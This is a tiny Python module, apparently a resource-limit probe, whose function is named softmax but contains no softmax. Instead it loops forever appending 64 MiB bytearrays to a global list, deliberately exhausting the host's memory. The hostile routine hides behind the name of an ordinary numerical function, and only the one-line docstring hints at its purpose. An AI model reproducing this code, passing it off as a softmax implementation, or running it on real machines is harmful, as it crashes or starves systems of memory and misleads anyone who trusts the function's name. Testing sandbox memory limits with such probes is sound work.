"""Against "memory is bounded": takes all there is as a bytearray, and keeps it."""

_kept = []


def softmax(scores, axis=-1):
    while True:
        _kept.append(bytearray(b"x") * (64 << 20))
